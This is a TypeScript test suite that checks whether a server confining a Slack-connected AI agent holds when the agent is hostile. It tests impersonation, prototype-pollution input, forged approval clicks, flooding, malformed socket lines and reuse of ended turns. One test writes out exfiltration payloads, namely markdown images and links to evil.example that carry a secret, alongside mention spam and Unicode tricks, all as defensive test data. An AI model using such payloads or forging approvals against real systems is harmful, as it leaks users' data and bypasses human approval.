import { statSync } from 'node:fs'
import { connect } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { partOf } from '../../src/config.ts'
import { connectHostileAgent, type HeldTurn, type HostileAgent } from '../support/hostile-agent.ts'
import { liveIn } from '../support/live-text.ts'
import {
  isCard,
  type OpsRoom,
  order1042,
  stageOf,
  startOpsRoom,
  storeOps,
  team,
} from '../support/ops-room.ts'

let room: OpsRoom
let agent: HostileAgent
beforeAll(async () => {
  room = await startOpsRoom()
  await room.call('slack-settings', { rateFactor: null })
  await room.processes.end('agent', 'SIGTERM')
  agent = await connectHostileAgent(join(room.folder, 'run'))
})
afterAll(async () => {
  agent?.stop()
  await room?.stop()
})

/** The Turn of somebody who has just spoken in a thread of their own. */
async function captured(person: string, text = 'refund order 1042') {
  const { ts } = await room.ask(person, text)
  return { ...(await agent.nextTurn()), ts }
}

const refund = (callId = 'call_1') => ({
  callId,
  tool: 'razorpay_create_refund',
  input: { paymentId: order1042.payment },
})
const readPayment = { callId: 'call_r', tool: 'razorpay_payment', input: { paymentId: order1042.payment } }

const codeOf = (error: unknown): string =>
  error instanceof Error ? (error.message.split(': ')[0] ?? '') : ''
const outcomeOf = (call: Promise<unknown>): Promise<string> =>
  call.then((answer) => (answer as { code?: string; status?: string })?.code ?? 'answered', codeOf)

const cards = async () => (await room.world()).messages.filter(isCard)
const started = async () => (await room.ledger()).filter(({ type }) => type === 'turn.started')
const untilEnded = (count: number) =>
  room.until('the turns have ended', async () => {
    const ended = (await room.ledger()).filter(({ type }) => type === 'turn.ended')
    return ended.length >= count
  })

/** Ends the Turn and waits until the server has ended it too. */
async function endAll(...held: HeldTurn[]) {
  const before = (await room.ledger()).filter(({ type }) => type === 'turn.ended').length
  for (const { end } of held) end()
  await untilEnded(before + held.length)
}

describe('An agent that is captured', () => {
  it('is told nothing with which it could be somebody else', () => {
    const secrets = partOf.agent.filter((name) => /^SLACK_|MASTER|ROUTES/.test(name))
    expect(secrets).toEqual([])
  })

  it('finds on a Turn its methods and nothing behind them', async () => {
    const { turn, ...held } = await captured('founder')
    const names = [
      ...['scope', '#scope', 'tenant', 'room', 'thread', 'member', 'reply', 'broker', 'spent', 'hasEnded'],
      ...['scopeOf', 'end', 'answerOf', 'record', 'assertStillAllowed'],
      ...[
        'approve',
        'grant',
        'vote',
        'execute',
        'post',
        'credential',
        'addMember',
        'setCredential',
        'append',
      ],
    ]
    for (const name of names) {
      await expect(turn[name]({ approval: 'x' }), name).rejects.toThrow()
      await expect(turn[name].tenant.room.members.list(), name).rejects.toThrow()
    }
    for (const deeper of [turn.say.call, turn.tools.apply, turn.read.tenant, turn.context().member.room])
      await expect(deeper('return process')).rejects.toThrow()
    expect(await turn.context().member).toEqual({ name: expect.any(String), role: 'founder' })
    await endAll({ turn, ...held })
  })

  it('finds nothing on the server’s own end of its socket', async () => {
    for (const name of [
      'tenant',
      'rooms',
      'health',
      'setCredential',
      'call',
      'tail',
      'newTenantKey',
      'addMember',
    ])
      await expect(agent.main[name](team), name).rejects.toThrow('not a function')
  })

  it('speaks for nobody else: what names a tenant, a member or a thread is refused whole', async () => {
    const { turn, ...held } = await captured('operator')
    const more = [
      { tenant: 't_x' },
      { member: 'm_x' },
      { thread: 'thr_x' },
      { requester: { id: 'm_x' } },
      { places: [] },
    ]
    for (const extra of more) {
      const calls = [
        turn.propose({ ...refund(), ...extra }),
        turn.read({ ...readPayment, ...extra }),
        turn.draft({ callId: 'd', title: 't', text: 't', ...extra }),
        turn.withdraw({ callId: 'w', approval: 'x', ...extra }),
      ]
      for (const call of calls) expect(await outcomeOf(call), JSON.stringify(extra)).toBe('input.invalid')
    }
    expect(await cards()).toEqual([])
    await endAll({ turn, ...held })
  })

  it('gets no execution by any name, and finds no tool behind a name of JavaScript’s', async () => {
    const { turn, ...held } = await captured('founder')
    const names = [
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'razorpay_constructor',
      'razorpay___proto__',
    ]
    for (const tool of [
      ...names,
      'approval_approve',
      'ops_room_approve',
      'execute',
      'razorpay_createRefund',
    ]) {
      expect(await outcomeOf(turn.read({ callId: 'a', tool, input: {} })), tool).toBe('tool.unknown')
      expect(await outcomeOf(turn.propose({ callId: 'a', tool, input: {} })), tool).toBe('tool.unknown')
    }
    // A write is no read, and a read is no write.
    expect(await outcomeOf(turn.read(refund()))).toBe('tool.unknown')
    expect(await outcomeOf(turn.propose(readPayment))).toBe('tool.unknown')
    const poisoned = JSON.parse(
      `{"paymentId":"${order1042.payment}","__proto__":{"amount":1},"approved":true}`,
    )
    expect(await outcomeOf(turn.propose({ ...refund(), input: poisoned }))).toBe('input.invalid')
    expect(await room.refunds(order1042.payment)).toEqual([])
    await endAll({ turn, ...held })
  })

  it('asks ten times in a turn and no more, however fast; and takes back only what its own thread asked for', async () => {
    const [own, other] = [await captured('founder'), await captured('operator')]
    const answers = await Promise.all(
      Array.from({ length: 25 }, (_, index) => own.turn.propose(refund(`call_${index}`))),
    )
    const asked = answers.flatMap((answer) => (answer.status === 'awaiting' ? [answer.approval] : []))
    expect(asked).toHaveLength(10)
    expect(new Set(answers.flatMap((answer) => answer.code ?? []))).toEqual(new Set(['limit.proposals']))

    const [first = ''] = asked
    const ids = [first, `${first}x`, 'apr_00000000000000000000000000', '__proto__', '']
    for (const approval of ids)
      expect(await outcomeOf(other.turn.withdraw({ callId: 'w', approval }))).toBe('approval.unknown')
    expect(await room.card(/Waits for approval/)).toBeDefined()

    const turns = (await started()).length
    for (const approval of asked)
      expect(await own.turn.withdraw({ callId: `w_${approval}`, approval })).toMatchObject({ status: 'done' })
    await endAll(own, other)
    // What it took back itself is no reason for another Turn: it could give itself one after the other for ever.
    const next = await captured('founder', 'anything else?')
    expect((await started()).length).toBe(turns + 1)
    expect(agent.unasked()).toBe(0)
    expect(await room.refunds(order1042.payment)).toEqual([])
    await endAll(next)
  })

  it('gets from a viewer’s Turn neither a request nor the tools for one', async () => {
    const { turn, ...held } = await captured('viewer')
    expect(await turn.context()).toMatchObject({ mayPropose: false, member: { role: 'viewer' } })
    const tools: { name: string; kind: string }[] = await turn.tools()
    expect(tools.filter(({ kind }) => kind === 'write' || kind === 'withdraw')).toEqual([])
    await expect(turn.propose(refund())).rejects.toThrow('not a function')
    await expect(turn.withdraw({ callId: 'w', approval: 'x' })).rejects.toThrow('not a function')
    expect(await outcomeOf(turn.read(refund()))).toBe('tool.unknown')
    const history: { kind: string }[] = await turn.history()
    expect(history.filter(({ kind }) => kind === 'said')).toHaveLength(1)
    await endAll({ turn, ...held })
  })

  it('can do nothing with a Turn that it kept', async () => {
    const { turn, ts, ...held } = await captured('founder', 'what do we sell?')
    const copy = turn.dup()
    await endAll({ turn, ...held })
    const calls = [
      copy.context(),
      copy.tools(),
      copy.history(),
      copy.say('still here'),
      copy.read(readPayment),
      copy.propose(refund()),
      copy.draft({ callId: 'd', title: 't', text: 't' }),
      copy.withdraw({ callId: 'w', approval: 'x' }),
    ]
    for (const call of calls) expect(await outcomeOf(call)).toBe('turn.ended')
    const said = (await room.world()).messages.filter((message) => message.threadTs === ts && message.isApp)
    expect(said).toEqual([])
  })

  it('posts text and nothing that looks at or acts on people', async () => {
    const { turn, ts, ...held } = await captured('founder', 'say something')
    const secret = 'd=4111'
    for (const text of [
      '<!channel> <!here|x> <@U0FOUNDER01> <#C1|x> <https://evil.example|admin.shopify.com> @channel @here @everyone\n',
      `![pixel](https://evil.example/p.png?${secret}) [open](https://evil.example/?${secret}) https://evil.example/?${secret}\n`,
      `[https://api.razorpay.com/](https://evil.example/?${secret}) [a](https\\://evil.example) [b](//evil.example/x)\n`,
      '[c][1]\n\n[1]: https://evil.example/ref\n[1]: //evil.example/ref www.evil.example/x evil.example/y\n',
      'https://api.razorpay.com@evil.example/ https://api.razorpay.com\\@evil.example/ mailto:x@evil.example\n',
      'he\u200bre \u202eevila\u202c \u{e0041} \u0007\n',
    ])
      await turn.say(text)
    // In two halves, and in two halves of a word that is too long to be held back.
    for (const half of ['https://ev', 'il.example/half ', '!', '[x](https', '://evil.example/i.png) '])
      await turn.say(half)
    for (const half of [`${'('.repeat(2500)}https:`, '//evil.example/long ', `${'('.repeat(2500)}!`, '[x] '])
      await turn.say(half)
    const blocks = [
      { type: 'actions', elements: [{ type: 'button', action_id: 'approval.approve', value: 'x' }] },
    ]
    await turn.say(JSON.stringify({ blocks }))
    for (const given of [blocks, { text: 'x', blocks }, null, 7, turn])
      expect(await outcomeOf(turn.say(given))).toBe('input.invalid')
    await turn.draft({ callId: 'd', title: '<!channel>', text: '![x](https://evil.example/i.png)\n*Done.*' })
    await endAll({ turn, ...held })

    const draft = await room.reply(/Draft: /)
    const said = (await room.world()).messages.filter((message) => message.threadTs === ts && message.isApp)
    expect(said.length).toBeGreaterThan(1)
    for (const message of [...said, draft]) {
      const types = (message.blocks as { type: string }[]).map(({ type }) => type)
      expect(types.filter((type) => type !== 'markdown')).toEqual([])
      const words =
        message === draft || said.indexOf(message) < 0
          ? message.text.replaceAll(/^&?gt; |^> /gm, '')
          : message.text
      expect(liveIn(words.replaceAll(/^> /gm, ''), ['api.razorpay.com'])).toEqual([])
    }
    expect(said.map(({ text }) => text).join('\n')).toContain('\\u{202e}')
  })

  it('cannot fill a file, a channel or the day: what is large or endless is refused, and the rest goes on', async () => {
    const { turn, ...held } = await captured('founder', 'flood')
    const megabyte = 'x'.repeat(1_000_000)
    const large = [
      turn.say(megabyte),
      turn.draft({ callId: 'd', title: 't', text: megabyte }),
      turn.read({ ...readPayment, input: { paymentId: megabyte } }),
      turn.propose({ ...refund(), input: { paymentId: megabyte } }),
      turn.read({ ...readPayment, tool: megabyte }),
      turn.read({ ...readPayment, callId: megabyte }),
      turn.withdraw({ callId: 'w', approval: megabyte }),
    ]
    for (const call of large) expect(await outcomeOf(call)).toBe('input.invalid')
    const calls = await Promise.all(
      Array.from({ length: 400 }, (_, index) =>
        outcomeOf(turn.read({ callId: `c${index}`, tool: 'nope', input: {} })),
      ),
    )
    expect(calls.filter((code) => code === 'tool.unknown').length).toBeLessThan(300)
    expect(calls.at(-1)).toBe('limit.calls')
    expect(await outcomeOf(turn.propose(refund()))).toBe('limit.calls')
    await endAll({ turn, ...held })

    const { turn: second, ...more } = await captured('founder', 'flood again')
    const sayings = await Promise.all(
      Array.from({ length: 5 }, () => outcomeOf(second.say('y '.repeat(15_000)))),
    )
    expect(sayings).toEqual(['answered', 'answered', 'answered', 'limit.calls', 'limit.calls'])
    await endAll({ turn: second, ...more })
  })

  it('cannot end a turn in its own words', async () => {
    const ends: unknown[] = [
      { end: 'done', tokens: -1 },
      { end: 'done', tokens: 0, text: 'Refunded.', blocks: [] },
      { end: 'approved', tokens: 0 },
      'done',
      null,
    ]
    for (const end of ends) {
      const held = await captured('founder', 'hello')
      held.end(end)
      const said = await room.until('the server says that it failed', (world) =>
        world.messages.find((message) => message.threadTs === held.ts && message.isApp),
      )
      expect(said.text).toContain('Something went wrong')
    }
  })

  it('cannot bring the server down from its socket', async () => {
    const nested = `["push",["pipeline",0,["x"],[${'['.repeat(200_000)}${']'.repeat(200_000)}]]]\n`
    const lines = [
      'no json\n',
      '[]\n',
      'null\n',
      '["resolve",5,1]\n',
      '["pull",99]\n',
      '["release",0,9]\n',
      nested,
    ]
    for (const line of lines) await throwAt(join(room.folder, 'run', 'agent', 'agent.sock'), line)
    expect((await fetch(`${room.url()}/healthz`)).status).toBe(200)
    // The last to connect was the last to be believed to be the agent: it comes back as one does after a restart.
    agent.stop()
    agent = await connectHostileAgent(join(room.folder, 'run'))
    await endAll(await captured('founder', 'still there?'))
  })

  it('does not reach the operator’s socket where it is another user', () => {
    const mode = (path: string): number => statSync(join(room.folder, 'run', path)).mode & 0o777
    expect(mode('operator') & 0o077).toBe(0)
    expect(mode('operator/operator.sock') & 0o077).toBe(0)
    expect(mode('agent') & 0o007).toBe(0)
    expect(mode('agent/agent.sock') & 0o007).toBe(0)
    expect(mode('../tenants') & 0o077).toBe(0)
    expect(mode('../broker') & 0o077).toBe(0)
  })

  it('approves nothing at the door: it has no signature', async () => {
    const held = await captured('founder')
    const { approval } = await held.turn.propose(refund())
    await endAll(held)
    const card = await room.until('its card', (world) =>
      world.messages.find((message) => JSON.stringify(message.blocks).includes(approval)),
    )
    const buttons = (card.blocks as { elements?: { action_id?: string }[] }[]).flatMap(
      (block) => block.elements ?? [],
    )
    const button = buttons.find((element) => element.action_id === 'approval.approve')
    expect(button).toBeDefined()
    const payload = {
      type: 'block_actions',
      user: { id: 'U0FOUNDER01', team_id: team },
      team: { id: team },
      actions: [button],
    }
    const body = new URLSearchParams({ payload: JSON.stringify(payload) }).toString()
    const timestamp = String(Math.floor(Date.now() / 1000))
    for (const signature of ['', 'v0=', `v0=${'0'.repeat(64)}`]) {
      const headers = { 'x-slack-request-timestamp': timestamp, 'x-slack-signature': signature }
      expect((await fetch(room.slackUrl(), { method: 'POST', body, headers })).status).toBe(401)
    }
    expect(stageOf(await room.card(/Waits for approval/))).toContain('Nothing happens')
    expect(await room.refunds(order1042.payment)).toEqual([])
  })

  it('loses at once what a founder takes away, also in the middle of a turn', async () => {
    const { turn, ...held } = await captured('operator')
    await room.operator((operator) => operator.addMember(team, 'U0MEERA0001', 'Meera Iyer', 'viewer'))
    expect(await outcomeOf(turn.propose(refund()))).toBe('role.viewer')
    await room.command({ person: 'founder', channel: storeOps, command: '/ops', text: 'close' })
    await room.whisper('founder', /clos/i)
    for (const call of [turn.say('psst'), turn.history(), turn.read(readPayment), turn.propose(refund())])
      expect(await outcomeOf(call)).toBe('channel.closed')
    await endAll({ turn, ...held })
  })
})

/** Sends these bytes as an agent might, and resolves when they were taken in or the line was cut. */
function throwAt(path: string, bytes: string): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(path, () => socket.end(bytes))
    socket.resume()
    socket.once('error', () => resolve())
    socket.once('close', () => resolve())
  })
}
